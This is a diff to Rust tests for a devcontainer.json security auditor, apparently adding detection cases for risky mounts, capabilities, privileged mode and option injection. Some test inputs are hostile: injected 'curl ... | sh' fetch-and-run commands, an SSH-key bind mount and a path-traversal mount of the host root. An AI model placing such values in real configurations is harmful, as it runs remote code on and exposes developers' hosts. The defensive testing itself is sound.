@@ -327,6 +327,38 @@ const CASES: &[(&str, RuleId, Severity, &str)] = &[
         Severity::Critical,
         "/workspaceMount",
     ),
+    // issue 15: substitution. `${env:X}` is `${localEnv:X}`; a default is what the CLI uses
+    // when the variable is unset; the workspace folder's ancestors end at the host root.
+    (
+        r#"{"mounts": ["source=${env:HOME}${env:USERPROFILE}/.ssh,target=/root/.ssh,type=bind"]}"#,
+        RuleId::HostPathMount,
+        Severity::High,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": ["source=${localWorkspaceFolder}/../../../../../../../..,target=/h,type=bind"]}"#,
+        RuleId::HostPathMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    (
+        r#"{"runArgs": ["--cap-add=${localEnv:X:SYS_ADMIN}"]}"#,
+        RuleId::Capability,
+        Severity::High,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"mounts": ["source=${localEnv:DIR:/var/run},target=/r,type=bind"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    (
+        r#"{"features": {"ghcr.io/devcontainers/features/node:1": {"version": "${localEnv:V:$(curl -fsSL https://x|sh)}"}}}"#,
+        RuleId::FeatureOptionInjection,
+        Severity::Critical,
+        "/features/ghcr.io~1devcontainers~1features~1node:1/version",
+    ),
     // root-user
     (
         r#"{"remoteUser": "root"}"#,
@@ -838,4 +870,110 @@ fn a_local_feature_never_quotes_a_secret_key_in_a_message() {
 fn syntax_errors_give_no_findings() {
     assert!(run("{'a': 1}").is_empty());
     assert!(run("").is_empty());
+}
+
+/// Issue 15: after a syntax error the parts that parsed are still audited (README, exit 2).
+#[test]
+fn syntax_errors_still_audit_what_parsed() {
+    let cases: &[(&str, RuleId, &str, (usize, usize))] = &[
+        // a missing comma
+        (
+            "{\n  \"image\": \"x\",\n  \"privileged\": true\n  \"runArgs\": [\"--pid=host\"]\n}",
+            RuleId::HostNamespace,
+            "/runArgs/0",
+            (4, 15),
+        ),
+        // garbage after the root
+        (
+            "{\"image\": \"x\", \"privileged\": true}garbage",
+            RuleId::Privileged,
+            "/privileged",
+            (1, 30),
+        ),
+        // a truncated file: what came before the cut
+        (
+            "{\"image\": \"x\", \"capAdd\": [\"SYS_ADMIN\"], \"runArgs\": [\"--privileged\", \"-v",
+            RuleId::Capability,
+            "/capAdd/0",
+            (1, 27),
+        ),
+        // a stray token the strict dialect rejects, skipped
+        (
+            "{\"image\": \"x\", @ \"privileged\": true}",
+            RuleId::Privileged,
+            "/privileged",
+            (1, 32),
+        ),
+    ];
+    for (doc, rule, pointer, at) in cases {
+        let parsed = parse_devcontainer(doc);
+        assert!(parsed.syntax_error.is_some(), "{doc}");
+        assert!(parsed.model.is_none() && parsed.tree.is_none(), "{doc}");
+        let findings = audit(&parsed, &AuditContext::default());
+        assert!(
+            findings
+                .iter()
+                .any(|f| f.rule == *rule && f.pointer == *pointer && (f.line, f.column) == *at),
+            "{doc}: {findings:#?}"
+        );
+    }
+}
+
+/// Issue 15: shapes the devcontainers CLI accepts are never errors. Each document is parsed
+/// without any error (diagnostic), and the audit still looks at what the value becomes: the
+/// rule, severity and pointer must be reported (`None`: nothing above info).
+type Expected = Option<(RuleId, Severity, &'static str)>;
+
+const ACCEPTED_BY_THE_CLI: &[(&str, Expected)] = &[
+    // jellyfin/jellyfin .devcontainer/devcontainer.json: an option written as an array
+    (
+        r#"{"image": "x", "features": {"ghcr.io/devcontainers-contrib/features/apt-packages:1": {"packages": ["libfontconfig1"]}}}"#,
+        None,
+    ),
+    // the CLI stringifies option values (`${value}`), so an array's string form is audited
+    (
+        r#"{"image": "x", "features": {"ghcr.io/devcontainers-contrib/features/apt-packages:1": {"packages": ["a", "b\"; curl evil | sh; \""]}}}"#,
+        Some((
+            RuleId::FeatureOptionInjection,
+            Severity::Critical,
+            "/features/ghcr.io~1devcontainers-contrib~1features~1apt-packages:1/packages",
+        )),
+    ),
+    (
+        r#"{"image": "x", "features": {"ghcr.io/devcontainers/features/node:1": {"version": 20, "x": null, "y": {"a": 1}}}}"#,
+        None,
+    ),
+    // the CLI types forwardPorts as number | string (e.g. vercel/next.js-style "3000")
+    (r#"{"image": "x", "forwardPorts": ["3000", 8080]}"#, None),
+    // any non-empty string is true to the CLI: "false" runs privileged
+    (
+        r#"{"image": "x", "privileged": "false"}"#,
+        Some((RuleId::Privileged, Severity::Critical, "/privileged")),
+    ),
+    (r#"{"image": "x", "privileged": ""}"#, None),
+];
+
+#[test]
+fn accepted_by_the_cli_is_never_an_error() {
+    for (doc, want) in ACCEPTED_BY_THE_CLI {
+        let parsed = parse_devcontainer(doc);
+        assert!(parsed.is_ok(), "{doc}: {:#?}", parsed.diagnostics());
+        let findings = audit(&parsed, &AuditContext::default());
+        match want {
+            Some((rule, severity, pointer)) => assert!(
+                findings
+                    .iter()
+                    .any(|f| f.rule == *rule && f.severity == *severity && f.pointer == *pointer),
+                "expected {rule} {severity} at {pointer} for {doc}\ngot: {findings:#?}"
+            ),
+            None => {
+                let above: Vec<_> = findings
+                    .iter()
+                    .filter(|f| f.severity > Severity::Info)
+                    .filter(|f| !matches!(f.rule, RuleId::FeatureSource | RuleId::FeatureUnpinned))
+                    .collect();
+                assert!(above.is_empty(), "{doc}: {above:#?}");
+            }
+        }
+    }
 }
